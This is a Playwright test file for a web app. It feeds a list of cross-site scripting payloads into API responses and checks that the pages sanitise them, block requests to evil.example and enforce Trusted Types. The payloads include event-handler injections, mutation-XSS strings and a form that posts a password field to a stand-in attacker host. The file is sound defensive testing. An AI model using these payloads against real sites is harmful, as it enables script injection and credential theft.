import type { Page } from '@playwright/test'
import { waitForIdle } from '../../harness/accessibility.ts'
import { navigate } from '../../harness/navigation.ts'
import { screens } from '../../harness/screens.ts'
import { expect, sharedTest as test } from '../../harness/test.ts'
import { accounts, storeSession } from '../../lesson/steps.ts'

const attacks = [
  '<img src=x onerror=attacked()>',
  '<svg onload=attacked()></svg>',
  '<svg><style><img src=x onerror=attacked()></style></svg>',
  '<a href="javascript:attacked()">go</a>',
  '<iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=attacked()>',
  '<noscript><p title="</noscript><img src=x onerror=attacked()>">',
  '<form action="https://evil.example"><input name=password autofocus onfocus=attacked()></form>',
  '<details open ontoggle=attacked()>',
  '<script>attacked()</script>',
  '<img src="https://evil.example/seen.png" alt="a picture from elsewhere">',
  '<p style="position:fixed;inset:0">over everything</p>',
]
const corpus = `<p>Safe words</p>${attacks.join('')}`

/** The fields of answers that hold what people write, html or not. */
const written =
  /^(?:description|short_description|question|feedback|transcript|text_help|explanation|text|reply|reason)$/

const attacked = (value: unknown): unknown => {
  if (Array.isArray(value)) return value.map(attacked)
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).map(([name, inner]) => [
      name,
      typeof inner === 'string' && written.test(name) ? corpus : attacked(inner),
    ]),
  )
}

/** Answers as from a server that cleans nothing. */
async function attack(page: Page) {
  await page.addInitScript(() =>
    Object.assign(window, { attacks: 0, attacked: () => Object.assign(window, { attacks: 1 }) }),
  )
  await page.route('**/api/v1/**', async (route) => {
    if (route.request().method() !== 'GET' || route.request().url().includes('/events')) return route.continue()
    const response = await route.fetch()
    if (!response.headers()['content-type']?.includes('application/json')) return route.fulfill({ response })
    return route.fulfill({ response, json: attacked(await response.json()) })
  })
}

test('html of an attacker runs nothing and shows nothing from elsewhere, on any screen and in the description of a test', async ({
  page,
}) => {
  test.slow()
  const foreign: string[] = []
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) foreign.push(request.url())
  })
  page.on('dialog', (dialog) => void dialog.dismiss())
  const token = await storeSession(page, accounts.student)
  const answer = await page.request.get('/api/v1/me/tests', { headers: { authorization: token } })
  const tests: unknown = await answer.json()
  const id = /"id":(\d+)/.exec(JSON.stringify(tests))?.[1] ?? ''
  await attack(page)
  await page.goto('/')
  for (const [name, path] of Object.entries({ ...screens, test: `/test/${id}` })) {
    await navigate(page, path)
    await waitForIdle(page)
    for (const summary of await page.locator('main details > summary').all()) await summary.click()
    const left = page.locator(
      'main :is(iframe[srcdoc], form[action*=evil], [onerror], [onload], [ontoggle], [href^="javascript:"])',
    )
    await expect(left, name).toHaveCount(0)
    expect(await page.evaluate(() => Reflect.get(window, 'attacks')), name).toBe(0)
  }
  // As it was typed: the description of a test is plain text.
  await expect(page.getByText('<script>attacked()</script>').first()).toBeVisible()
  expect(foreign).toEqual([])
})

test('the page refuses html and scripts that no policy has trusted', async ({ browser, baseURL }) => {
  // A page of its own: what it does is refused.
  const context = await browser.newContext({ ...(baseURL && { baseURL }) })
  const page = await context.newPage()
  await page.goto('/login')
  const results = await page.evaluate(() =>
    [
      () => (document.body.innerHTML = '<p>html</p>'),
      () => new DOMParser().parseFromString('<p>html</p>', 'text/html'),
      () => document.body.insertAdjacentHTML('beforeend', '<p>html</p>'),
      () => Object.assign(document.createElement('script'), { src: '/x.js' }),
    ].map((act) => {
      try {
        act()
        return 'done'
      } catch (error) {
        return error instanceof Error ? error.name : 'refused'
      }
    }),
  )
  expect(results).not.toContain('done')
  await context.close()
})
